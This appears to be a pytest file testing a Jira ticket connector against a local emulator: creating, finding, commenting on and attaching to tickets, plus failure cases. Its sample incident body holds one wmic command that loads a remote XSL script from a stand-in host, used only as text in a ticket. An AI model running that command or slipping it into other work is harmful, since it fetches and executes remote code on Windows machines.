"""The Jira connector and the Jira stand-in over real sockets: open, find, comment, attach."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from connectors.document import Code, Document, Heading, Paragraph, Table
from connectors.emulators import jira as stand_in
from connectors.emulators.jira_requests import PROJECT
from connectors.errors import AuthFailed, OutcomeUnknown
from connectors.http import HttpSettings, Runtime
from connectors.model import Secret, TicketDraft
from connectors.tickets.jira import Jira
from tests.fake_clock import FakeClock

BODY = Document(
    (
        Heading("What happened"),
        Code('wmic os get /format:"http://192.0.2.1/x.xsl" {code} [a|http://a.test]'),
        Table(("host", "state"), (("ws-1", "contained"),)),
    )
)
DRAFT = TicketDraft(correlation="case-1", title="wmic on ws-1\r\nx", body=BODY, labels=("soc",))


@pytest.fixture
def product() -> Iterator[stand_in.Jira]:
    emulator = stand_in.Jira(FakeClock())
    emulator.start()
    yield emulator
    emulator.stop()
    assert emulator.crashes == []


@pytest.fixture
def jira(product: stand_in.Jira) -> Jira:
    return connect(product)


def connect(product: stand_in.Jira, **other: str) -> Jira:
    return Jira(
        name="tickets",
        tenant="main",
        settings=HttpSettings(base_url=product.base_url),
        credentials={k: Secret(v) for k, v in {**product.credentials, **other}.items()},
        options=Jira.Options(project=PROJECT, priorities={"high": "High"}),
        runtime=Runtime(clock=product.clock, emulated=True),
    )


def test_ticket_when_opened_commented_and_attached_then_all_is_found_again(
    product: stand_in.Jira, jira: Jira
) -> None:
    assert jira.find_ticket("case-1") is None
    ticket = jira.create_ticket(DRAFT)
    assert jira.find_ticket("case-1") == ticket
    assert jira.find_ticket("case-2") is None
    assert ticket.url == f"{product.base_url}/browse/{ticket.key}"
    assert not jira.find_comment(ticket, "run/1")
    jira.comment_ticket(ticket, "run/1", Document((Paragraph("The host is contained."),)))
    assert jira.find_comment(ticket, "run/1")
    assert not jira.find_attachment(ticket, "case.json")
    jira.attach_file(ticket, "case.json", b"\x00{}\r\n--boundary")
    assert jira.find_attachment(ticket, "case.json")
    [issue] = product.all_issues()
    [attached] = issue["fields"]["attachment"]
    assert product.file(attached["id"]) == b"\x00{}\r\n--boundary"
    assert not jira.read_ticket(ticket).is_closed


def test_create_when_the_answer_is_lost_then_the_ticket_is_found_and_there_is_one(
    product: stand_in.Jira, jira: Jira
) -> None:
    product.misbehave(path="*/issue", lose_answer=True, apply=True)
    with pytest.raises(OutcomeUnknown):
        jira.create_ticket(DRAFT)
    product.behave()
    found = jira.find_ticket("case-1")
    assert found is not None
    assert [issue["key"] for issue in product.all_issues()] == [found.key]


def test_create_when_priority_is_not_on_the_screen_then_the_ticket_says_so(
    product: stand_in.Jira, jira: Jira
) -> None:
    product.tune(refused_fields=("priority",))
    jira.create_ticket(DRAFT)
    [issue] = product.all_issues()
    last = issue["fields"]["description"]["content"][-1]["content"][0]["text"]
    assert "priority High" in last


def test_find_when_the_search_lags_then_none_until_it_has_caught_up(
    product: stand_in.Jira, jira: Jira
) -> None:
    product.tune(search_lag_s=30.0)
    ticket = jira.create_ticket(DRAFT)
    assert jira.find_ticket("case-1") is None
    assert isinstance(product.clock, FakeClock)
    product.clock.advance(31)
    assert jira.find_ticket("case-1") == ticket


def test_find_when_pages_are_short_then_the_oldest_of_two(
    product: stand_in.Jira, jira: Jira
) -> None:
    product.tune(page_size=1)
    oldest = jira.create_ticket(DRAFT)
    jira.create_ticket(DRAFT)
    assert jira.find_ticket("case-1") == oldest


def test_check_when_all_is_granted_then_ok_and_the_world_is_unchanged(
    product: stand_in.Jira, jira: Jira
) -> None:
    results = jira.check()
    assert [result for result in results if not result.ok] == []
    assert product.effects() == []


def test_check_when_labels_are_not_on_the_screen_then_named(
    product: stand_in.Jira, jira: Jira
) -> None:
    product.tune(refused_fields=("labels",))
    [bad] = [result for result in jira.check() if not result.ok]
    assert "labels" in str(bad.mend)


def test_call_when_the_token_is_wrong_then_auth_failed_and_never_no_ticket(
    product: stand_in.Jira,
) -> None:
    with pytest.raises(AuthFailed):
        connect(product, api_token="wrong").find_ticket("case-1")
